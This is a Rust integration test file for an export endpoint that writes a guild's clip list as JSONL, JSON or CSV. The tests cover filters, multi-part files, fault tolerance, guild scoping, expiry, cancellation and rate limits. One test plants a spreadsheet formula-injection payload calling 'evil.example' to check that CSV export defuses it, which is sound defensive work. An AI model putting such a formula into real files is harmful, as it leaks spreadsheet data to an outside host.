//! `POST /api/guilds/{guildId}/exports`: the file that its parts make, against the list.

use std::time::Duration;

use discord_local::guild::{AttachmentSpec, MessageSpec};
use integration::{Options, Reply, TestApp};
use serde_json::{Value, json};
use shared::config::LimitsConfig;
use shared::redis::commands::Keys as _;
use upstash_local::{Fault, FaultAction};

use super::{OTHER, all, system};
use crate::scan::{CHANNEL, FIRST_MS, GUILD, guild_with};

fn exports() -> String {
    format!("/api/guilds/{GUILD}/exports")
}

async fn create(app: &TestApp, body: Value) -> String {
    let reply = app.post(&exports(), &body).await;
    assert_eq!(reply.status, 202, "{}", reply.json);
    reply.text("/exportId").to_owned()
}

async fn show(app: &TestApp, id: &str) -> Value {
    let reply = app.get(&format!("{}/{id}", exports())).await;
    assert_eq!(reply.status, 200, "{}", reply.json);
    reply.json
}

async fn part(app: &TestApp, id: &str, n: u64) -> Reply {
    app.get(&format!("{}/{id}/parts/{n}", exports())).await
}

/// The parts of a file, one after another.
async fn file(app: &TestApp, id: &str) -> String {
    let shown = show(app, id).await;
    assert_eq!(shown["state"], "completed", "{shown}");
    let mut file = String::new();
    for n in 1..=shown["parts"].as_u64().unwrap() {
        let part = part(app, id, n).await;
        assert_eq!(part.status, 200, "{}", part.json);
        assert!(part.body.len() < 1_000_000);
        file.push_str(&part.body);
    }
    assert_eq!(shown["sizeBytes"].as_u64(), Some(file.len() as u64));
    file
}

/// The lines of a file in JSON Lines.
fn lines(file: &str) -> Vec<Value> {
    let lines = file.lines();
    lines
        .map(|line| serde_json::from_str(line).unwrap())
        .collect()
}

/// The cells of a CSV file (RFC 4180), line by line.
fn cells(file: &str) -> Vec<Vec<String>> {
    let (mut rows, mut row, mut cell) = (Vec::new(), Vec::new(), String::new());
    let (mut is_quoted, mut rest) = (false, file.chars().peekable());
    while let Some(c) = rest.next() {
        match c {
            '"' if is_quoted && rest.peek() == Some(&'"') => cell.extend(rest.next()),
            '"' => is_quoted = !is_quoted,
            ',' if !is_quoted => row.push(std::mem::take(&mut cell)),
            '\r' if !is_quoted => {
                assert_eq!(rest.next(), Some('\n'));
                row.push(std::mem::take(&mut cell));
                rows.push(std::mem::take(&mut row));
            }
            _ => cell.push(c),
        }
    }
    assert!(row.is_empty() && cell.is_empty() && !is_quoted);
    rows
}

#[tokio::test]
async fn a_file_in_each_format_holds_what_the_list_shows_in_its_order() {
    let app = system(25).await;
    let listed = all(&app, GUILD, "limit=100").await;
    assert_eq!(listed.len(), 100);
    let ids: Vec<&str> = listed
        .iter()
        .map(|clip| clip["id"].as_str().unwrap())
        .collect();
    let mut files = Vec::new();
    for format in ["jsonl", "json", "csv"] {
        files.push(create(&app, json!({ "format": format })).await);
    }
    app.drain().await;
    assert_eq!(lines(&file(&app, &files[0]).await), listed);
    let array: Value = serde_json::from_str(&file(&app, &files[1]).await).unwrap();
    assert_eq!(array, json!(listed));
    let table = cells(&file(&app, &files[2]).await);
    let column = table[0].iter().position(|name| name == "clipId").unwrap();
    assert!(table.iter().all(|row| row.len() == table[0].len()));
    let in_table: Vec<&str> = table[1..].iter().map(|row| row[column].as_str()).collect();
    assert_eq!(in_table, ids);
    let part = part(&app, &files[2], 1).await;
    assert_eq!(part.header("content-type"), Some("text/csv; charset=utf-8"));
    let disposition = format!("attachment; filename=\"clips-{GUILD}-1.csv\"");
    assert_eq!(part.header("content-disposition"), Some(&*disposition));
}

#[tokio::test]
async fn the_filters_of_an_export_are_those_of_the_list() {
    let app = system(25).await;
    let after = FIRST_MS + 5 * 60_000;
    let query = format!("channelId={OTHER}&after={after}&limit=100");
    let listed = all(&app, GUILD, &query).await;
    assert_eq!(listed.len(), 40);
    let body = json!({ "format": "jsonl", "channelId": [OTHER.to_string()], "after": after });
    let id = create(&app, body).await;
    app.drain().await;
    assert_eq!(lines(&file(&app, &id).await), listed);
    let none = json!({ "format": "csv", "after": FIRST_MS + 86_400_000 });
    let id = create(&app, none).await;
    app.drain().await;
    assert_eq!(cells(&file(&app, &id).await).len(), 1);
    assert_eq!(show(&app, &id).await["clips"], 0);
}

#[tokio::test]
async fn a_name_that_a_spreadsheet_would_run_is_defused() {
    let evil = "=HYPERLINK(\"https://evil.example/?\"&A1,\"clip\")";
    let mut guild = guild_with(0, 1);
    let video = AttachmentSpec::video("a.mp4").set("title", json!(evil));
    guild.add_message(
        CHANNEL,
        MessageSpec::text("look").at_ms(FIRST_MS).attachment(video),
    );
    let app = TestApp::with_guild(guild).await;
    app.scan(CHANNEL, json!({})).await;
    app.drain().await;
    let id = create(&app, json!({ "format": "csv" })).await;
    app.drain().await;
    let table = cells(&file(&app, &id).await);
    let defused = format!("'{evil}");
    assert!(table[1].contains(&defused), "{:?}", table[1]);
    assert!(!table.iter().flatten().any(|cell| cell.starts_with('=')));
}

#[tokio::test]
async fn a_long_export_runs_in_pieces_and_its_parts_are_one_file() {
    let mut guild = guild_with(0, 1);
    guild.fill(CHANNEL, 1_100, |i| {
        let message = MessageSpec::text("look").at_ms(FIRST_MS + i as i64 * 1000);
        (0..10).fold(message, |message, n| {
            let name = format!("{i}_{n}_{}.mp4", "long name ".repeat(20));
            message.attachment(AttachmentSpec::video(&name))
        })
    });
    let app = TestApp::with_guild(guild).await;
    app.scan(CHANNEL, json!({})).await;
    app.drain().await;
    let id = create(&app, json!({ "format": "jsonl" })).await;
    let report = app.drain().await;
    assert_eq!(
        (&report["snoozed"], &report["completed"]),
        (&json!(1), &json!(1))
    );
    let shown = show(&app, &id).await;
    assert_eq!(shown["clips"], 11_000, "{shown}");
    assert!(shown["parts"].as_u64() >= Some(5), "{shown}");
    let found = lines(&file(&app, &id).await);
    let ids = |clips: &[Value]| -> Vec<String> {
        let ids = clips
            .iter()
            .map(|clip| clip["id"].as_str().unwrap().to_owned());
        ids.collect()
    };
    let listed = all(&app, GUILD, "limit=100").await;
    assert_eq!(ids(&found), ids(&listed));
}

#[tokio::test]
async fn a_fault_at_any_request_of_an_export_loses_and_doubles_nothing() {
    let app = system(25).await;
    let listed = all(&app, GUILD, "limit=100").await;
    for action in [
        FaultAction::DropBefore,
        FaultAction::DropAfterCommit,
        FaultAction::Status(500),
        FaultAction::TruncateBody,
    ] {
        for skip in 0..8 {
            let body = json!({ "format": "jsonl" });
            let id = create(&app, body).await;
            app.endpoint
                .faults()
                .add(Fault::new(action).skip(skip).times(1));
            for _ in 0..6 {
                let invoked = json!({ "source": "aws.scheduler" });
                let drain = "/2015-03-31/functions/drain/invocations";
                app.post(drain, &invoked).await;
                app.endpoint.faults().clear();
                if app.job(&id).await["finishedAt"].is_i64() {
                    break;
                }
                app.advance(Duration::from_secs(120));
            }
            assert_eq!(lines(&file(&app, &id).await), listed, "{action:?} {skip}");
        }
    }
}

/// Runs a drainer and drops it while it waits for the reply to a request, after `n` others.
/// Returns whether there was such a request.
async fn drain_and_die(app: &TestApp, n: u32) -> bool {
    let faults = app.endpoint.faults();
    let before = faults.fired();
    let never = FaultAction::Delay(Duration::from_secs(3600));
    faults.add(Fault::new(never).skip(n).times(1));
    let event = json!({ "source": "aws.scheduler" });
    let deadline = app.clock.deadline(Duration::from_secs(900));
    let hangs = async {
        while faults.fired() == before {
            tokio::task::yield_now().await;
        }
    };
    let died = tokio::select! {
        _ = app.functions.drain.run(&event, &deadline) => false,
        () = hangs => true,
    };
    faults.clear();
    died
}

#[tokio::test]
async fn a_drainer_may_die_at_any_request_of_an_export() {
    let app = system(25).await;
    let listed = all(&app, GUILD, "limit=100").await;
    let mut n = 0;
    loop {
        let id = create(&app, json!({ "format": "jsonl" })).await;
        let died = drain_and_die(&app, n).await;
        for _ in 0..3 {
            // Longer than a lease.
            app.advance(Duration::from_secs(120));
            app.drain().await;
        }
        assert_eq!(lines(&file(&app, &id).await), listed, "at request {n}");
        if !died {
            break;
        }
        n += 1;
    }
    assert!(n > 5, "{n}");
}

#[tokio::test]
async fn the_same_export_twice_is_one_job_until_it_is_done() {
    let app = system(3).await;
    let body = json!({ "format": "csv", "channelId": [CHANNEL.to_string()] });
    let first = create(&app, body.clone()).await;
    let again = app.post(&exports(), &body).await;
    assert_eq!(again.json["duplicate"], true);
    assert_eq!(again.text("/exportId"), first);
    let other = create(&app, json!({ "format": "json" })).await;
    assert_ne!(other, first);
    assert_eq!(app.drain().await["completed"], 2);
    assert_ne!(create(&app, body).await, first);
    app.drain().await;
}

#[tokio::test]
async fn an_export_is_not_a_scan() {
    let app = system(3).await;
    let id = create(&app, json!({ "format": "csv" })).await;
    let current = app.get("/api/scans/current").await;
    assert_eq!(current.json["scans"], json!([]));
    assert_eq!(app.job(&id).await["type"], "export");
    let named =
        json!({ "type": "export", "guildId": GUILD.to_string(), "channelId": CHANNEL.to_string() });
    assert_eq!(app.post("/api/jobs", &named).await.status, 400);
    app.drain().await;
}

#[tokio::test]
async fn a_file_is_there_once_it_is_complete_and_only_for_its_guild() {
    let app = system(3).await;
    let id = create(&app, json!({ "format": "csv" })).await;
    let waiting = show(&app, &id).await;
    assert_eq!(
        (&waiting["state"], &waiting["parts"]),
        (&json!("waiting"), &Value::Null)
    );
    let early = part(&app, &id, 1).await;
    assert_eq!(
        (early.status, early.text("/code")),
        (409, "export_unfinished")
    );
    app.drain().await;
    let scan = app.scan(CHANNEL, json!({})).await;
    let elsewhere = format!("/api/guilds/{}/exports/{id}", GUILD + 1);
    for path in [
        elsewhere.clone(),
        format!("{elsewhere}/parts/1"),
        format!("{}/{id}/parts/2", exports()),
        format!("{}/{scan}", exports()),
    ] {
        let reply = app.get(&path).await;
        assert_eq!(
            (reply.status, reply.text("/code")),
            (404, "export_not_found"),
            "{path}"
        );
    }
    assert_eq!(app.delete(&elsewhere).await.status, 404);
    assert_eq!(
        app.get(&format!("{}/{id}/parts/0", exports())).await.status,
        400
    );
    assert_eq!(part(&app, &id, 1).await.status, 200);
    app.drain().await;
}

#[tokio::test]
async fn an_export_is_gone_after_a_day_and_its_parts_with_it() {
    let app = system(3).await;
    let id = create(&app, json!({ "format": "csv" })).await;
    app.drain().await;
    let expires_at = show(&app, &id).await["expiresAt"].as_i64().unwrap();
    let left = expires_at - app.clock.now_ms();
    app.advance(Duration::from_millis(left as u64 - 1));
    assert_eq!(part(&app, &id, 1).await.status, 200);
    app.advance(Duration::from_millis(1));
    assert_eq!(part(&app, &id, 1).await.status, 404);
    assert_eq!(app.get(&format!("{}/{id}", exports())).await.status, 404);
}

#[tokio::test]
async fn an_export_can_be_cancelled_and_removed_at_any_time() {
    let app = system(3).await;
    let waiting = create(&app, json!({ "format": "csv" })).await;
    let path = |id: &str| format!("{}/{id}", exports());
    assert_eq!(app.delete(&path(&waiting)).await.status, 204);
    assert_eq!(show(&app, &waiting).await["state"], "cancelled");
    assert_eq!(app.delete(&path(&waiting)).await.status, 204);
    app.advance(Duration::from_secs(10));
    assert_eq!(app.get(&path(&waiting)).await.status, 404);

    let done = create(&app, json!({ "format": "csv" })).await;
    app.drain().await;
    let key = format!("trawl:export:part:{done}:1:0");
    assert_eq!(app.redis.exists(&[&key]).await.unwrap(), 1);
    assert_eq!(app.delete(&path(&done)).await.status, 204);
    app.advance(Duration::from_secs(10));
    for path in [path(&done), format!("{}/parts/1", path(&done))] {
        assert_eq!(app.get(&path).await.status, 404);
    }
    assert_eq!(app.redis.exists(&[&key]).await.unwrap(), 0);
}

#[tokio::test]
async fn a_caller_may_ask_for_five_exports_an_hour() {
    let app = TestApp::start(Options {
        guild: guild_with(1, 1),
        limits: LimitsConfig::default(),
        ..Options::default()
    })
    .await;
    app.leaves_any_jobs();
    for n in 0..5 {
        create(&app, json!({ "format": "csv", "minSeconds": n })).await;
    }
    let sixth = app.post(&exports(), &json!({ "format": "csv" })).await;
    assert_eq!(sixth.status, 429);
}

#[tokio::test]
async fn a_wrong_field_of_an_export_is_named_before_redis_is_asked() {
    let app = TestApp::with_guild(guild_with(1, 1)).await;
    app.endpoint.reset_meter();
    for (body, detail) in [
        (json!({}), "format: required"),
        (
            json!({ "format": "xlsx" }),
            "format: expected one of `csv`, `jsonl`, `json`",
        ),
        (
            json!({ "format": "csv", "channelId": [] }),
            "channelId: expected an array of 1 to 20 ids",
        ),
        (
            json!({ "format": "csv", "minSeconds": 5, "maxSeconds": 4 }),
            "maxSeconds: expected at least `minSeconds`",
        ),
        (
            json!({ "format": "csv", "chanelId": ["1"] }),
            "chanelId: unknown field; did you mean channelId?",
        ),
    ] {
        let reply = app.post(&exports(), &body).await;
        assert_eq!((reply.status, reply.text("/detail")), (400, detail));
    }
    assert_eq!(app.endpoint.meter().total, 0);
}
